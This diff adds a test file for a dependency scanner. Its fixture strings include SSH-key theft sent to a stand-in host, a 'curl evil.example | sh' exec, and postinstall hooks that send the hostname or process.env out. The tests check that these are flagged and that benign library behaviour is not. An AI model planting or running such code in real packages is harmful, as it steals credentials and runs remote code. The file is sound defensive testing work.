@@ -1,0 +1,190 @@
+// What a server depends on is read like the server itself, package by package: a combination counts where it stands in one of them, and what a
+// library does by its trade counts for nothing.
+import { join } from 'node:path'
+import { describe, expect, test } from 'vitest'
+import { bound } from '../../src/core/model/bounds.ts'
+import type { Fetched, FetchedTree } from '../../src/core/model/fetched.ts'
+import { verdictOf } from '../../src/core/vet/verdict.ts'
+import { type Files, look, rulesIn, whyUnread } from './look.ts'
+
+/** The server lies in `own`, and what was installed for it in `tree`. */
+const fetchedWith =
+  (ecosystem: 'npm' | 'pypi') =>
+  (folder: string): { folder: string; fetched: Fetched } => {
+    const tree: FetchedTree = {
+      folder: join(folder, 'tree'),
+      packages: [{ ecosystem, name: 'a', version: '1.0.0', path: ecosystem === 'npm' ? 'node_modules/a' : '' }],
+      installScripts: [],
+      lock: null,
+    }
+    return { folder: join(folder, 'own'), fetched: { kind: ecosystem, name: 'a', tree } as Fetched }
+  }
+const lookAll = (files: Files, ecosystem: 'npm' | 'pypi' = 'npm') => look(files, { more: fetchedWith(ecosystem) })
+
+const SERVER = { 'own/index.js': "require('helper')", 'tree/node_modules/a/index.js': "require('helper')" }
+const TAKE = "const fs = require('fs'); exports.take = () => fs.readFileSync(require('os').homedir() + '/.ssh/id_rsa')"
+const SEND = "exports.send = (x) => fetch('https://a.example', { method: 'POST', body: x })"
+
+describe('harm in a dependency', () => {
+  test.each<[string, Files, string, string]>([
+    [
+      'in several of its files',
+      {
+        ...SERVER,
+        'tree/node_modules/helper/index.js': "require('./send').send(require('./take').take())",
+        'tree/node_modules/helper/take.js': TAKE,
+        'tree/node_modules/helper/send.js': SEND,
+      },
+      'code-sends-secrets',
+      'tree/node_modules/helper/send.js'.slice(5),
+    ],
+    [
+      'that another one brings',
+      {
+        ...SERVER,
+        'tree/node_modules/@x/y/index.js': 'exports.a = 1',
+        'tree/node_modules/@x/y/node_modules/deep/index.js': `${TAKE}; ${SEND}; exports.send(exports.take())`,
+        'tree/node_modules/@x/y/zed.js': 'exports.b = 1',
+      },
+      'code-sends-secrets',
+      'node_modules/@x/y/node_modules/deep/index.js',
+    ],
+    [
+      'by what hands it the means',
+      {
+        ...SERVER,
+        'tree/node_modules/helper/means.js': "exports.c = require('child_process')",
+        'tree/node_modules/helper/index.js': "require('./means').c.exec('curl -s https://evil.example/x | sh')",
+      },
+      'code-runs-download',
+      'node_modules/helper/index.js',
+    ],
+    [
+      'while it is installed',
+      {
+        ...SERVER,
+        'tree/node_modules/helper/package.json': '{ "name": "helper", "scripts": { "postinstall": "node setup" } }',
+        'tree/node_modules/helper/setup.js': "fetch('https://collect.example/?h=' + require('os').hostname())",
+      },
+      'install-sends',
+      'node_modules/helper/setup.js',
+    ],
+    [
+      'in the folder of the server itself',
+      {
+        ...SERVER,
+        'own/node_modules/helper/index.js': `${TAKE}; ${SEND}; exports.send(exports.take())`,
+      },
+      'code-sends-secrets',
+      'node_modules/helper/index.js',
+    ],
+    [
+      'in the server as it was installed, which is not as it was fetched',
+      { 'own/index.js': '1', 'tree/node_modules/a/index.js': `${TAKE}; ${SEND}; exports.send(exports.take())` },
+      'code-sends-secrets',
+      'node_modules/a/index.js',
+    ],
+  ])('%s', async (_, files, rule, place) => {
+    const part = await lookAll(files)
+    const found = part.report.findings.filter((finding) => finding.rule === rule)
+    expect(found.map(({ evidence }) => evidence.at.replace(/:\d+$/, ''))).toContain(place)
+    expect(found[0]?.evidence.note).toMatch(/^in node_modules\//)
+  })
+
+  test('in Python', async () => {
+    const part = await lookAll(
+      {
+        'own/server.py': 'import helper',
+        'tree/server.py': 'import helper',
+        'tree/helper/__init__.py':
+          "import os, requests\nrequests.post('https://a.example', data=open(os.path.expanduser('~/.ssh/id_rsa')).read())\n",
+      },
+      'pypi',
+    )
+    expect(part.report.findings.map(({ evidence }) => evidence.at)).toContain('helper/__init__.py:2')
+  })
+})
+
+test.each([
+  ['code-stays', "require('fs').appendFileSync(require('os').homedir() + '/.bashrc', 'a')", '{}'],
+  [
+    'install-sends',
+    "fetch('https://a.example', { method: 'POST', body: JSON.stringify(process.env) })",
+    '{ "scripts": { "postinstall": "node index" } }',
+  ],
+])('%s counts where nobody asked for it', async (rule, text, manifest) => {
+  const helper = { 'tree/node_modules/helper/index.js': text, 'tree/node_modules/helper/package.json': manifest }
+  expect(rulesIn(await lookAll({ ...SERVER, ...helper }))).toContain(rule)
+})
+
+test('what two packages do is no combination', async () => {
+  const part = await lookAll({
+    ...SERVER,
+    'tree/node_modules/one/index.js': TAKE,
+    'tree/node_modules/two/index.js': SEND,
+  })
+  expect(part.report.findings).toEqual([])
+})
+
+describe('what honest libraries do', () => {
+  test.each<[string, string]>([
+    ['asks the network', "exports.get = (url, o) => require('https').request(url, o).end(o.body)"],
+    ['reads variables', 'exports.proxy = process.env.HTTPS_PROXY || process.env.https_proxy'],
+    [
+      'asks through a proxy that a variable names',
+      "const p = new URL(process.env.HTTPS_PROXY); require('net').connect(p.port, p.hostname).write('CONNECT ' + process.env.NO_PROXY)",
+    ],
+    [
+      'starts a program',
+      "exports.open = (url) => require('child_process').spawn('xdg-open', [url], { env: process.env })",
+    ],
+    ['compiles what it made', "exports.compile = (schema) => new Function('x', 'return ' + schema)"],
+    [
+      'installs completion for a shell',
+      "const fs = require('fs'); exports.install = () => fs.appendFileSync(require('os').homedir() + '/.bashrc', 'source a')",
+    ],
+    [
+      'sends what it is asked to',
+      "exports.report = () => fetch('https://api.example', { method: 'POST', body: JSON.stringify(process.env) })",
+    ],
+    ['reads a clipboard', "exports.paste = () => require('child_process').execFileSync('pbpaste')"],
+    [
+      'asks for the keys of a cloud',
+      "exports.role = () => fetch('http://metadata.google.internal/computeMetadata/v1/x')",
+    ],
+  ])('one that %s', async (_, text) => {
+    const part = await lookAll({ ...SERVER, 'tree/node_modules/helper/index.js': text })
+    expect(part.report.findings).toEqual([])
+    expect(verdictOf([part])).toBe('no-finding')
+  })
+
+  test('one that builds a native part', async () => {
+    const part = await lookAll({
+      ...SERVER,
+      'tree/node_modules/helper/package.json': '{ "name": "helper", "scripts": { "install": "node install.js" } }',
+      'tree/node_modules/helper/install.js':
+        "const { execFileSync } = require('child_process'); if (process.env.SKIP) process.exit(0); execFileSync('node-gyp', ['rebuild'], { stdio: 'inherit' })",
+      'tree/node_modules/helper/build/a.node': '\u007FELF',
+    })
+    expect(part.report.findings).toEqual([])
+    expect(part.report.notLooked.join()).toContain('1 native program')
+  })
+})
+
+test('its files count, and what cannot be read of it is told', async () => {
+  const part = await lookAll({
+    ...SERVER,
+    'tree/node_modules/helper/index.js': 'exports.a = 1',
+    'tree/node_modules/helper/large.js': ' '.repeat(bound('vet-file-bytes') + 1),
+    'tree/node_modules/helper/README.md': '# A',
+  })
+  expect(part.coverage).toEqual([{ what: 'files', seen: 3, of: 4 }])
+  expect(whyUnread(part)).toContain('node_modules/helper/large.js: it has')
+  expect(part.report.looked.join()).toContain('1 package that it depends on')
+  expect(rulesIn(part)).toEqual([])
+})
+
+test('a tree that could not be fetched is told', async () => {
+  const part = await look({ 'index.js': '1' }, { more: () => ({ fetched: { tree: null } as Fetched }) })
+  expect(part.report.notLooked.join()).toContain('the code of what it depends on')
+})
